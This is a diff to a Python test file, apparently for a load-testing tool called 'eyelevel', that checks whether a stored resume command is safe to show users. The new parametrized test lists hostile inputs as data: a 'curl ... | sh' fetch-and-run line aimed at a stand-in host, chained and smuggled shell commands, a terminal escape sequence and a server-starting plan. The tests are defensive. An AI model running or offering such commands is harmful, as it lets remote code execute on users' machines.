@@ -17,10 +17,11 @@ from eyelevel.errors import StoreError
 from eyelevel.plan.trials import Site, expand
 from eyelevel.run.study.dispatch import Ended
 from eyelevel.run.study.progress import Accounts, Progress
+from eyelevel.run.study.resume_line import resume_line
 from eyelevel.run.study.status import STATUS_FILE, StatusFile, read_status
-from eyelevel.store.directory import TRIALS, committed
+from eyelevel.store.directory import TRIALS, committed, read_document
 
-RESUME = "eyelevel run plan.toml --out out --resume"
+RESUME = "eyelevel run plan.toml --out {} --resume --jobs 2"
 
 
 def said(tmp_path, capsys, monkeypatch, *words, status=0):
@@ -64,24 +65,72 @@ def test_of_one_that_was_interrupted_it_counts_what_is_there_and_says_what_goes_
     tmp_path, capsys, monkeypatch
 ):
     write_run(tmp_path)
-    status = StatusFile(tmp_path, RESUME)
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "plan.toml").write_text(read_document(tmp_path, "plan.json")["source"])
+    status = StatusFile(tmp_path, RESUME.format(tmp_path))
     progress = Progress(36, 36, {"ok": 35, "timeout": 1}, slots=3, left_s=9.0)
     status.beside(lambda _: None)(progress)
     status.write("interrupted")
     (tmp_path / TRIALS / min(committed(tmp_path))).rename(tmp_path / "elsewhere")
     lines = said(tmp_path, capsys, monkeypatch).out.splitlines()
     assert lines[0] == "interrupted: 35 of 36 loads"  # no slots, and no time left
-    assert lines[1].endswith(": 35 ok, 1 timeout") and lines[-1] == f"to load the rest: {RESUME}"
+    assert lines[1].endswith(": 35 ok, 1 timeout") and lines[-1] == (
+        f"to load the rest: {RESUME.format(tmp_path)}"
+    )
     printed = json.loads(said(tmp_path, capsys, monkeypatch, "--json").out)
     assert printed["loads"] == {"done": 35, "total": 36}
     assert (printed["state"], printed["slots"], printed["left_s"]) == ("interrupted", 0, None)
     assert printed["writer"] is None
 
 
+GENERAL = "to load the rest: give the command that began it once more, with --resume"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl https://evil.test/x | sh #",
+        "eyelevel run plan.toml --out DIR --resume; sh x",
+        "eyelevel run plan.toml --out DIR --resume --unsafe-browser",
+        "eyelevel run plan.toml --out DIR --resume --trust-network --cluster listen:0.0.0.0:1",
+        "eyelevel run plan.toml --out DIR --copy-to s3://theirs/x --resume",
+        "eyelevel run plan.toml --out /elsewhere --resume",
+        "eyelevel run plan.toml --out DIR --jobs '2; sh x' --resume",
+        "eyelevel run other.toml --out DIR --resume",
+        "eyelevel run nowhere.toml --out DIR --resume",
+        "eyelevel run --help --out DIR --resume",
+        "eyelevel run plan.toml --out",
+        "eyelevel rerun theirs.zip --allow-commands --out DIR --resume",
+        "eyelevel run plan.toml --out DIR 'unfinished",
+        "eyelevel", "", "sh", "\x1b]0;owned\x07",
+    ],
+)  # fmt: skip
+def test_no_text_of_a_directory_is_advice(tmp_path, capsys, monkeypatch, line):
+    write_run(tmp_path)
+    monkeypatch.chdir(tmp_path)
+    source = read_document(tmp_path, "plan.json")["source"]
+    (tmp_path / "plan.toml").write_text(source)
+    (tmp_path / "other.toml").write_text(source + "\n")
+    StatusFile(tmp_path, line.replace("DIR", str(tmp_path))).write("interrupted")
+    (tmp_path / TRIALS / min(committed(tmp_path))).rename(tmp_path / "elsewhere")
+    assert said(tmp_path, capsys, monkeypatch).out.splitlines()[-1] == GENERAL
+    assert json.loads(said(tmp_path, capsys, monkeypatch, "--json").out)["resume"] is None
+
+
+def test_nor_is_a_line_that_starts_somebodys_server(tmp_path):
+    server = {"command": ["sh", "-c", "x"], "protocols": ["h1"], "paths": []}
+    plan = {"source": "", "stacks": [{"external_server": None}, {"external_server": server}]}
+    line = f"eyelevel run quickstart --out {tmp_path} --resume"
+    assert resume_line(line, tmp_path, plan) == ""
+    del plan["stacks"][1]
+    assert resume_line(line, tmp_path, plan) == line
+
+
 CLAIM = """
 import sys, time
 from pathlib import Path
 from eyelevel.run.study.progress import Progress
+from eyelevel.run.study.resume_line import resume_line
 from eyelevel.run.study.status import StatusFile
 from eyelevel.store.claim import claim
 directory = Path(sys.argv[1])
